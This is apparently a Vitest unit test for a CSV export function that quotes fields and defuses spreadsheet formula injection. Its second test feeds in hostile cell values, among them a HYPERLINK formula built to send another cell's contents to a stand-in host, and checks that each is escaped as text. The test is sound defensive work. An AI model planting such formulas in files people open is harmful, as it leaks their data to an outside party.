import { describe, expect, it } from 'vitest';
import { toCsvText } from './csv.js';

describe('toCsvText', () => {
  it('writes a header and rows, quoting what needs it and leaving unknown values empty', () => {
    expect(
      toCsvText(
        ['name', 'kbps (kbit/s)'],
        [
          ['alice, "a"', 12.5],
          ['bob', null],
        ],
      ),
    ).toBe('name,kbps (kbit/s)\n"alice, ""a""",12.5\nbob,\n');
  });

  it('keeps text a spreadsheet would run as a formula as text, and numbers as numbers', () => {
    const rows = [
      ['=HYPERLINK("http://evil.example/?leak="&A2,"x")'],
      ['=1+2@evil.test'],
      ['+1'],
      ['-cmd'],
      ['@SUM(A1)'],
      ['\tx'],
      ['\r=1'],
      [-3.5],
      ['a=b'],
    ];
    expect(toCsvText(['name'], rows).split('\n').slice(1, -1)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?leak=""&A2,""x"")"`,
      `'=1+2@evil.test`,
      `'+1`,
      `'-cmd`,
      `'@SUM(A1)`,
      `'\tx`,
      `"'\r=1"`,
      '-3.5',
      'a=b',
    ]);
  });
});
